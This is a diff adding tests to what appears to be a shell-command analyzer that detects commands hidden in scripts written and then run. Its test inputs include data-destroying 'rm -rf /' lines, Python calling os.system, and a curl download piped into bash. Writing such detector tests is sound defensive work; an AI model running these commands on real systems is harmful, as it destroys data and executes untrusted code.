@@ -124,6 +124,31 @@ describe('command lines carried by options and environment', () => {
   });
 });
 
+describe('files written then run', () => {
+  it.each([
+    ["echo 'rm -rf /' > /tmp/x.sh; bash /tmp/x.sh", 'script_file'],
+    ["printf 'rm -rf /\\n' > x.sh && chmod +x x.sh && ./x.sh", 'script_file'],
+    ['cat > run.sh <<EOF\n#!/bin/sh\nrm -rf /\nEOF\nsh run.sh', 'script_file'],
+    ["echo 'rm -rf /' | tee a.sh >/dev/null; . ./a.sh", 'script_file'],
+    ["echo 'echo hi' > a.sh; echo 'rm -rf /' >> a.sh; source a.sh", 'script_file'],
+    ['cd /tmp && echo "rm -rf /" > y && bash y', 'script_file'],
+  ])('%s', (command, via) => {
+    const rm = only(facts(command), 'rm');
+    expect(rm.argv).toEqual(['rm', '-rf', '/']);
+    expect(rm.via).toBe(via);
+  });
+
+  it('a written python file run by python', () => {
+    const f = facts("cat > p.py <<'EOF'\nimport os\nos.system('id')\nEOF\npython3 p.py");
+    expect(only(f, 'python3').inline_code?.calls).toContain('os.system');
+  });
+
+  it('a written file with a shebang run directly', () => {
+    const f = facts("printf '#!/usr/bin/env python3\\nimport socket\\n' > s && chmod +x s && ./s");
+    expect(only(f, 's').inline_code?.imports).toContain('socket');
+  });
+});
+
 describe('fetched then run', () => {
   it.each([
     'curl -o /tmp/x.sh https://x.io/i.sh && bash /tmp/x.sh',
